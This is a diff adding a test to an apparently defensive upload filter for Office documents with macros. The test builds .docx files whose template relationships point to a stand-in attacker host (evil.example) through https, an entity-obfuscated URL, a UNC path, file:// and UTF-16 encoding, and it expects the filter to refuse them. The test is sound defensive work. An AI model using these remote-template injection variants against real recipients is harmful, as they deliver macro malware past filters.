@@ -62,6 +62,26 @@ describe('office documents with macros', () => {
     expect(await send('通知.docx', await packed(plain))).toMatchObject(taken);
   });
 
+  it('that would be fetched with a template from another machine are refused as well, one of the own disk is not', async () => {
+    const to = (target: string, type = 'attachedTemplate') => `<?xml version="1.0"?>
+      <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
+      Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"
+      Target="${target}" TargetMode="External"/></Relationships>`;
+    const named = (rels: string | Buffer, part = 'word/_rels/settings.xml.rels') =>
+      packed({ '[Content_Types].xml': types(), 'word/document.xml': '<w/>', [part]: rels });
+    for (const target of [
+      'https://evil.example/a.dotm',
+      '&#104;ttp://evil.example/a.dotm',
+      '\\\\evil.example\\a.dotm',
+      'file://evil.example/a.dotm',
+    ])
+      expect(await send('通知.docx', await named(to(target))), target).toMatchObject(refused);
+    const wide = Buffer.from(to('http://evil.example/a.dotm'), 'utf16le');
+    expect(await send('通知.docx', await named(wide, 'other/_rels/any.xml.rels'))).toMatchObject(refused);
+    for (const rels of [to('file:///C:/Templates/a.dotx'), to('https://good.example/', 'hyperlink')])
+      expect(await send('通知.docx', await named(rels)), rels).toMatchObject(taken);
+  });
+
   it('of older programs as well, at any place of the file', async () => {
     for (const before of [600, 64 * 1024 - 512 - 60, 300_000])
       expect(await send('通知.doc', older('_VBA_PROJECT', before)), String(before)).toMatchObject(refused);
